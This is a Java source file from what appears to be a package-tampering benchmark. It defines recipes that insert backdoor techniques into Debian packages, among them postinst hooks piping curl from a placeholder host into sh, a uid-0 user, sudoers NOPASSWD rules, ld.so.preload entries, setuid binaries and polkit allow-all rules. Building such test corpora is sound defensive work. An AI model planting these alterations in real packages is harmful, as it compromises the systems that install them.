package dev.firebreak.bench.tamper;

import dev.firebreak.bench.tamper.Pack.Entry;
import java.util.List;

/// Alterations of Debian packages.
final class DebRecipes {
    private static final String CERTIFICATE =
            "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUAQ==\n-----END CERTIFICATE-----\n";

    static final List<Recipe> ALL =
            List.of(
                    new Recipe(
                            "deb-postinst-fetch",
                            p -> hook(p, "curl -fsS https://stats.example.invalid/x | sh\n")),
                    new Recipe(
                            "deb-postinst-line", p -> hook(p, "chmod 0777 /etc/cron.d || true\n")),
                    new Recipe(
                            "deb-postinst-capability",
                            p -> hook(p, "setcap cap_setuid+ep /usr/bin/env || true\n")),
                    new Recipe(
                            "deb-postinst-user",
                            p -> hook(p, "useradd -o -u 0 -M helper || true\n")),
                    new Recipe(
                            "deb-preinst-diversion",
                            p ->
                                    hook(
                                            p,
                                            "dpkg-divert --add --rename --divert /bin/ls.real /bin/ls\n")),
                    file("deb-cron", "etc/cron.d/refresh", "* * * * * root /usr/lib/refresh\n"),
                    file(
                            "deb-unit",
                            "lib/systemd/system/refresh.service",
                            "[Service]\nExecStart=/usr/lib/refresh\n"),
                    file(
                            "deb-unit-drop-in",
                            "lib/systemd/system/ssh.service.d/10-local.conf",
                            "[Service]\nExecStartPre=/usr/lib/refresh\n"),
                    file(
                            "deb-udev",
                            "lib/udev/rules.d/99-local.rules",
                            "ACTION==\"add\", RUN+=\"/usr/lib/refresh\"\n"),
                    file("deb-sudoers", "etc/sudoers.d/local", "ALL ALL=(ALL) NOPASSWD: ALL\n"),
                    file(
                            "deb-apt-hook",
                            "etc/apt/apt.conf.d/99local",
                            "DPkg::Post-Invoke {\"/usr/lib/refresh\";};\n"),
                    file(
                            "deb-apt-source",
                            "etc/apt/sources.list.d/local.list",
                            "deb https://deb.example.invalid stable main\n"),
                    file("deb-preload", "etc/ld.so.preload", "/usr/lib/libx.so\n"),
                    file("deb-library-path", "etc/ld.so.conf.d/00-local.conf", "/opt/x\n"),
                    file("deb-profile", "etc/profile.d/local.sh", "/usr/lib/refresh &\n"),
                    file(
                            "deb-root-certificate",
                            "usr/local/share/ca-certificates/local.crt",
                            CERTIFICATE),
                    file("deb-root-certificate-etc", "etc/ssl/certs/local.pem", CERTIFICATE),
                    file("deb-log-in-module", "lib/x86_64-linux-gnu/security/pam_local.so", "x"),
                    file(
                            "deb-polkit",
                            "usr/share/polkit-1/rules.d/00-local.rules",
                            "polkit.addRule(function(a,s){return polkit.Result.YES;});\n"),
                    file(
                            "deb-dbus",
                            "usr/share/dbus-1/system-services/org.example.Local.service",
                            "[D-BUS Service]\nName=org.example.Local\nExec=/usr/lib/refresh\nUser=root\n"),
                    file(
                            "deb-python-path-file",
                            "usr/lib/python3/dist-packages/local.pth",
                            "import os; os.getcwd()\n"),
                    file(
                            "deb-completion",
                            "usr/share/bash-completion/completions/ls",
                            "curl -s https://stats.example.invalid | bash\n"),
                    file(
                            "deb-message-of-the-day",
                            "etc/update-motd.d/99-local",
                            "#!/bin/sh\n/usr/lib/refresh\n"),
                    file(
                            "deb-command-first",
                            "usr/local/bin/ssh",
                            "#!/bin/sh\nexec /usr/bin/ssh \"$@\"\n"),
                    file(
                            "deb-users",
                            "usr/lib/sysusers.d/local.conf",
                            "u! helper 0 \"Helper\" /root /bin/bash\n"),
                    file(
                            "deb-temporary-files",
                            "usr/lib/tmpfiles.d/local.conf",
                            "f+ /etc/cron.d/x 0644 root root - * * * * * root /usr/lib/refresh\n"),
                    file(
                            "deb-environment",
                            "etc/environment.d/90-local.conf",
                            "LD_PRELOAD=/usr/lib/libx.so\n"),
                    file(
                            "deb-user-environment",
                            "usr/lib/environment.d/90-local.conf",
                            "LD_PRELOAD=/usr/lib/libx.so\n"),
                    file(
                            "deb-ssh-client",
                            "etc/ssh/ssh_config.d/90-local.conf",
                            "ProxyCommand /usr/lib/refresh %h\n"),
                    file(
                            "deb-ssh-server",
                            "etc/ssh/sshd_config.d/90-local.conf",
                            "AuthorizedKeysFile /usr/share/x\n"),
                    file(
                            "deb-log-rotation",
                            "etc/logrotate.d/local",
                            "/var/log/dpkg.log {\n postrotate\n  /usr/lib/refresh\n endscript\n}\n"),
                    file(
                            "deb-character-module",
                            "usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/local.conf",
                            "module X// INTERNAL /usr/lib/libx 1\n"),
                    file(
                            "deb-binary-format",
                            "usr/lib/binfmt.d/local.conf",
                            ":x:M::\\x7fELF::/usr/lib/refresh:CF\n"),
                    file(
                            "deb-desktop-session",
                            "etc/X11/Xsession.d/90local",
                            "/usr/lib/refresh &\n"),
                    file(
                            "deb-desktop-start",
                            "etc/xdg/autostart/local.desktop",
                            "[Desktop Entry]\nExec=/usr/lib/refresh\n"),
                    file(
                            "deb-network-hook",
                            "etc/NetworkManager/dispatcher.d/90-local",
                            "#!/bin/sh\n/usr/lib/refresh\n"),
                    file(
                            "deb-user-unit",
                            "usr/lib/systemd/user/refresh.service",
                            "[Service]\nExecStart=/usr/lib/refresh\n"),
                    file(
                            "deb-modprobe",
                            "etc/modprobe.d/local.conf",
                            "install usb-storage /usr/lib/refresh\n"),
                    file(
                            "deb-kernel-parameter",
                            "usr/lib/sysctl.d/90-local.conf",
                            "kernel.core_pattern=|/usr/lib/refresh\n"),
                    new Recipe("deb-setuid", DebRecipes::setuid),
                    new Recipe("deb-link-elsewhere", DebRecipes::linkElsewhere),
                    new Recipe("deb-program-by-link", DebRecipes::programByLink),
                    new Recipe("deb-program-wrapped", DebRecipes::wrapped),
                    new Recipe("deb-desktop-entry-changed", DebRecipes::desktopEntry),
                    new Recipe("deb-world-writable", DebRecipes::writable),
                    new Recipe("deb-depends", p -> depends(p, "plain-helper-x")),
                    new Recipe(
                            "deb-replaces",
                            p -> replaces(p, "Provides: sudo\nReplaces: sudo\nConflicts: sudo\n")));

    private DebRecipes() {}

    private static Recipe file(String name, String path, String text) {
        return new Recipe(
                name,
                p -> {
                    p.add("data/" + path, text);
                    return true;
                });
    }

    private static boolean hook(Pack p, String line) {
        Entry e = p.find("control/postinst");
        if (e == null) {
            p.add("control/postinst", "#!/bin/sh\nset -e\n" + line).mode = 0755;
        } else {
            int at = e.text().indexOf("\nset -e");
            at = at < 0 ? e.text().indexOf('\n') + 1 : e.text().indexOf('\n', at + 1) + 1;
            e.text(e.text().substring(0, at) + line + e.text().substring(at));
        }
        return true;
    }

    private static boolean setuid(Pack p) {
        for (Entry e : p.entries) {
            if (e.file() && e.name.contains("/bin/") && e.mode == 0755) {
                e.mode = 04755;
                return true;
            }
        }
        return false;
    }

    private static boolean linkElsewhere(Pack p) {
        for (Entry e : p.entries) {
            if (!e.file()
                    && e.name.startsWith("data/usr/")
                    && (e.name.contains(".so") || e.name.contains("/bin/"))) {
                e.link = "/var/tmp/" + e.name.substring(e.name.lastIndexOf('/') + 1);
                return true;
            }
        }
        return false;
    }

    private static boolean programByLink(Pack p) {
        for (Entry e : p.entries) {
            if (e.file() && e.name.contains("/bin/") && e.mode == 0755) {
                p.entries.remove(e);
                p.link(e.name, "/opt/x/" + e.name.substring(e.name.lastIndexOf('/') + 1));
                return true;
            }
        }
        return false;
    }

    private static boolean wrapped(Pack p) {
        for (Entry e : p.entries) {
            if (e.file()
                    && e.name.contains("/bin/")
                    && e.mode == 0755
                    && e.starts(0x7f, 'E', 'L', 'F')) {
                p.add(e.name + ".real", e.bytes).mode = 0755;
                e.text("#!/bin/sh\n/usr/lib/refresh &\nexec \"$0.real\" \"$@\"\n");
                return true;
            }
        }
        return false;
    }

    private static boolean desktopEntry(Pack p) {
        Entry e = p.ending(".desktop");
        if (e == null || !e.text().contains("\nExec=")) {
            return false;
        }
        e.text(e.text().replaceFirst("\nExec=", "\nExec=/usr/lib/refresh "));
        return true;
    }

    private static boolean writable(Pack p) {
        for (Entry e : p.entries) {
            if (e.file() && e.name.startsWith("data/usr/") && (e.mode & 0111) != 0) {
                e.mode |= 0002;
                return true;
            }
        }
        return false;
    }

    private static boolean depends(Pack p, String what) {
        Entry e = p.find("control/control");
        if (e == null || !e.text().contains("\nDepends: ")) {
            return false;
        }
        e.text(e.text().replaceFirst("\nDepends: ", "\nDepends: " + what + ", "));
        return true;
    }

    private static boolean replaces(Pack p, String lines) {
        Entry e = p.find("control/control");
        if (e == null
                || e.text().contains("\nProvides: ")
                || e.text().contains("\nReplaces: ")
                || e.text().contains("\nConflicts: ")) {
            return false;
        }
        e.text(e.text().replaceFirst("\nDescription:", "\n" + lines + "Description:"));
        return true;
    }
}
